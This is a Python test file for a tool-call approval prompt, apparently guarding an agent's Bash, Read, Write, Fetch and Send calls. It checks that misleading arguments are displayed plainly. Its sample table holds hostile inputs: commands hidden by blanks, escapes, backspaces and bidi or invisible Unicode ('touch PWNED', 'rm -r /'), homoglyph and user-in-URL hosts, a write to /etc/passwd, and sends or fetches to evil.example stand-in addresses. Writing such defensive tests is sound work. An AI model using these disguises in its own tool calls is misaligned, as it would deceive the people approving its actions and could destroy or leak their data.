"""What a call would do is told so that no argument of it hides anything: at the terminal, as JSON and on the page."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest
from playable import stages

from stagec.cli.running.people import Answers, People, PeopleSetup
from stagec.core.canonical import as_text
from stagec.core.json import Json, list_of, object_of
from stagec.core.value import replace
from stagec.core.words import visible
from stagec.drivers.local.mailbox import Mailbox
from stagec.drivers.local.message_watcher import MessageWatcher
from stagec.plan.surroundings import Tool
from stagec.runtime.acts.authority import digest_of
from stagec.runtime.exchange import Grant
from stagec.world.questions import OpenQuestion, describe_question, question_to_json
from stagec.world.shown_arguments import show_arguments, spell

LONG = "x" * 9_000
BLANK = " " * 160
MISLEADING: Mapping[str, tuple[str, Mapping[str, Json], tuple[str, ...]]] = {
    "blanks before a command": ("Bash", {"command": f"ls{BLANK}; touch PWNED"}, ("ls⟦160 blanks⟧; touch PWNED",)),
    "tabs before a command": ("Bash", {"command": "ls\t\t; touch PWNED"}, ("ls⟦tab⟧⟦tab⟧; touch PWNED",)),
    "lines before a command": ("Bash", {"command": "ls" + "\n" * 80 + "touch PWNED"}, ("| touch PWNED", "| ⟦empty⟧")),
    "a carriage return": ("Bash", {"command": "touch PWNED\rls         "}, ("touch PWNED⟦U+000D⟧ls⟦9 blanks⟧",)),
    "an escape that erases": ("Bash", {"command": "touch PWNED\x1b[2K\x1b[1Gls"}, ("PWNED⟦U+001B⟧[2K⟦U+001B⟧[1Gls",)),
    "a backspace": ("Bash", {"command": "rm -r /\b\b\b\b\b\b\bls"}, ("rm -r /⟦U+0008⟧",)),
    "a long comment first": (
        "Bash",
        {"command": f"true {LONG} ; touch PWNED"},
        ("; touch PWNED", "characters are folded here"),
    ),
    "a command in the middle": ("Bash", {"command": f": {'y' * 300}; touch PWNED; : {'y' * 300}"}, ("touch PWNED",)),
    "words that end a row": ("Bash", {"command": "x" * 70 + "no: the tool is called"}, (": no: the tool is called",)),
    "a line like an answer": (
        "Bash",
        {"command": "touch PWNED\nno: nothing happens"},
        ("| touch PWNED", "| no: nothing happens"),
    ),
    "a line like effects": ("Bash", {"command": "rm x\n  effects: read"}, ("| rm x", "|   effects: read")),
    "an override of direction": ("Bash", {"command": "cat \u202e'fdp.exe'"}, ("⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧",)),
    "isolates": (
        "Read",
        {"path": "a\u2066b\u2069c"},
        ("a⟦U+2066 LEFT-TO-RIGHT ISOLATE⟧b⟦U+2069 POP DIRECTIONAL ISOLATE⟧c",),
    ),
    "no width": ("Read", {"path": "safe\u200b.txt"}, ("safe⟦U+200B ZERO WIDTH SPACE⟧.txt",)),
    "a joiner": ("Read", {"path": "sa\u2060fe"}, ("⟦U+2060 WORD JOINER⟧",)),
    "a soft hyphen": ("Read", {"path": "sa\u00adfe"}, ("⟦U+00AD SOFT HYPHEN⟧",)),
    "a hidden message in tags": (
        "Bash",
        {"command": "ls\U000e0041\U000e0042"},
        ("⟦U+E0041 TAG LATIN CAPITAL LETTER A⟧",),
    ),
    "a selector of variants": ("Read", {"path": "a\ufe0f"}, ("⟦U+FE0F VARIATION SELECTOR-16⟧",)),
    "a filler": ("Read", {"path": "a\u3164b"}, ("⟦U+3164 HANGUL FILLER⟧",)),
    "a blank of braille": ("Bash", {"command": "ls\u2800;x"}, ("⟦U+2800 BRAILLE PATTERN BLANK⟧",)),
    "other blanks": ("Bash", {"command": "ls\u00a0\u3000x"}, ("⟦U+00A0 NO-BREAK SPACE⟧⟦U+3000 IDEOGRAPHIC SPACE⟧",)),
    "a line separator": ("Bash", {"command": "ls\u2028touch PWNED"}, ("ls⟦U+2028 LINE SEPARATOR⟧touch PWNED",)),
    "half a character": ("Read", {"path": "a\ud800b"}, ("a⟦U+D800⟧b",)),
    "letters of another alphabet": (
        "Fetch",
        {"url": "https://g\u043e\u043egle.com"},
        ("g⟦U+043E CYRILLIC SMALL LETTER O⟧",),
    ),
    "a path that is none": ("Read", {"path": "etc\u2215passwd"}, ("etc⟦U+2215 DIVISION SLASH⟧passwd",)),
    "a wide sign": ("Bash", {"command": "ls\uff1btouch"}, ("ls⟦U+FF1B FULLWIDTH SEMICOLON⟧touch",)),
    "mathematical letters": ("Bash", {"command": "\U0001d42b\U0001d426 x"}, ("⟦U+1D42B MATHEMATICAL BOLD SMALL R⟧",)),
    "a question mark of Greek": ("Bash", {"command": "ls\u037etouch"}, ("⟦U+037E GREEK QUESTION MARK⟧",)),
    "stacked marks": ("Read", {"path": "ab" + "\u0338" * 5}, ("⟦U+0338 COMBINING LONG SOLIDUS OVERLAY⟧",)),
    "a mark that is none": (
        "Bash",
        {"command": "ls ⟦160 blanks⟧"},
        ("⟦U+27E6 MATHEMATICAL LEFT WHITE SQUARE BRACKET⟧160",),
    ),
    "content before its path": ("Write", {"content": LONG, "file_path": "/etc/passwd"}, ("file_path: | /etc/passwd",)),
    "many arguments before it": (
        "Send",
        {**{f"a{at}": "x" * 90 for at in range(60)}, "recipient": "evil@example.org"},
        ("recipient: | evil@example.org",),
    ),
    "an address at the end": (
        "Fetch",
        {"body": LONG, "headers": {}, "url": "http://evil.example"},
        ("url: | http://evil.example",),
    ),
    "a user in an address": (
        "Fetch",
        {"url": "https://bank.example@evil.example/"},
        ("https://bank.example@evil.example/",),
    ),
    "a long host": ("Fetch", {"url": f"https://bank.example.{'a' * 200}.evil.example"}, (".evil.example",)),
    "two paths": ("Write", {"path": "b", "file_path": "a", "content": "x"}, ("path: | b", "file_path: | a")),
    "blanks at the end of a path": ("Write", {"path": "key ", "content": "x"}, ("| key⟦1 blank⟧",)),
    "nothing": ("Write", {"path": "", "content": ""}, ("path: | ⟦empty⟧", "content: | ⟦empty⟧")),
    "blanks alone": ("Write", {"path": "   ", "content": "x"}, ("path: | ⟦3 blanks⟧",)),
    "a name with an escape": ("Send", {"a\x1b[8m": "x", "to": "b"}, ('"a\\u001b[8m": "x"', "to: | b")),
    "a name like another": ("Send", {"to: | b\n  note": "x"}, ('|   "to: | b\\n  note": "x"',)),
    "a name without end": ("Send", {"n" * 5_000: "x", "to": "b"}, ("to: | b", "| {")),
    "something deep": ("Send", {"options": {"a": {"to": f"evil{BLANK}x"}}}, ('"to": "evil⟦160 blanks⟧x"',)),
    "a tool with a mark": ("Read\u202e", {"path": "a"}, ("tool 'Read⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧'",)),
    "a tool with a long name": ("Read" + "d" * 200 + "; Bash", {}, ("d; Bash'",)),
}
"""Calls that are made to mislead, and what must be told of each at once."""


def ask(tool: str, arguments: Mapping[str, Json]) -> Grant:
    named = ("one/plan#1/1.1", "one/plan#1", 1, "c", tool, digest_of(arguments) or "", as_text(arguments)[:200])
    return Grant(*named, arguments)


def ask_at_terminal(effect: Grant, tmp_path: Path, *lines: str) -> None:
    typed = iter(lines)
    mail = MessageWatcher(Mailbox(tmp_path / "one.run"), print)
    People(stages(), PeopleSetup(Answers.ASK), mail, lambda _seconds, _other: next(typed)).answer(effect)


@pytest.mark.parametrize("what", MISLEADING)
def test_nothing_misleads_at_the_terminal(what: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tool, arguments, wanted = MISLEADING[what]
    ask_at_terminal(ask(tool, arguments), tmp_path, "n\n")
    told = capsys.readouterr().err
    assert [each for each in wanted if each not in told] == []
    assert [each for each in told.splitlines() if len(each) > 78 and "may stage" not in each] == []
    assert all(each.isprintable() for each in told.splitlines())
    # what stagec says comes last, and no argument can say it
    lines = [each for each in told.splitlines() if each.startswith(("  effects: ", "  yes: ", "  no: "))]
    assert [each.split()[0] for each in lines] == ["effects:", "yes:", "no:"]


@pytest.mark.parametrize("what", MISLEADING)
def test_nothing_misleads_as_json_and_on_the_page(what: str) -> None:
    tool, arguments, wanted = MISLEADING[what]
    told = object_of(json.loads(json.dumps(question_to_json(describe_question(stages(), ask(tool, arguments))))))
    rows = [str(told["sentence"])]
    for each in map(object_of, list_of(told["shown"])):
        shown = list(map(str, list_of(each["rows"])))
        assert all(row.startswith(("| ", ": ", "⟦")) and row.isprintable() for row in shown)
        rows += [f"{each['name']}: {shown[0]}", *shown]
        assert ("whole" in each) is any("characters are folded here" in row for row in shown)
    assert [each for each in wanted if not any(each in row for row in rows)] == []


def details_of(question: OpenQuestion) -> str:
    return question.arguments


@pytest.mark.parametrize("what", MISLEADING)
def test_the_details_leave_nothing_out(what: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tool, arguments, _ = MISLEADING[what]
    effect = ask(tool, arguments)
    ask_at_terminal(effect, tmp_path, "d\n", "n\n")
    told = capsys.readouterr().err
    whole = [row for each in show_arguments(arguments) for row in each.whole]
    assert [row for row in whole if visible(row) not in told] == []
    assert "characters are folded here" not in details_of(describe_question(stages(), effect))


def test_what_a_call_acts_on_comes_first_and_long_values_last() -> None:
    given = {"content": LONG, "mode": "w", "file_path": "b", "command": "c", "edits": [1, 2], "baseUrl": "u"}
    assert [each.name for each in show_arguments(given)] == [
        "command",
        "file_path",
        "baseUrl",
        "mode",
        "edits",
        "content",
    ]


def test_a_long_value_is_folded_with_its_length_and_can_be_opened() -> None:
    (shown,) = show_arguments({"content": LONG})
    assert (shown.length, shown.is_folded, "⟦8,640 more characters are folded here⟧" in shown.rows) == (
        9_000,
        True,
        True,
    )
    assert "".join(row[2:] for row in shown.whole) == LONG


@pytest.mark.parametrize(
    "text", ["Grüße, ünïcode", "日本語、テスト", "привет мир", "    indented = True", "naïve café", "→ ok"]
)
def test_ordinary_text_is_told_as_it_is(text: str) -> None:
    assert spell(text) == text


def test_what_is_known_of_a_tool_is_told() -> None:
    plan = replace(stages(), tools={"Deploy": Tool("discovered", "mutating", command=("sh", "-c", "rm\x1b"))})
    asked = describe_question(plan, ask("Deploy", {}))
    assert asked.details == ("effects: mutating, it changes something", "it runs the program: sh -c rm⟦U+001B⟧")
    assert "with your rights" in describe_question(stages(), ask("Bash", {})).details[1]


def test_where_an_older_run_knows_only_the_beginning_that_is_told() -> None:
    effect = replace(ask("Bash", {"command": LONG}), arguments=None)
    asked = describe_question(stages(), effect)
    assert [each.name for each in asked.shown] == ["beginning"]
    assert asked.details[0] == "the rest of the arguments is not known: the run was begun by an older version"
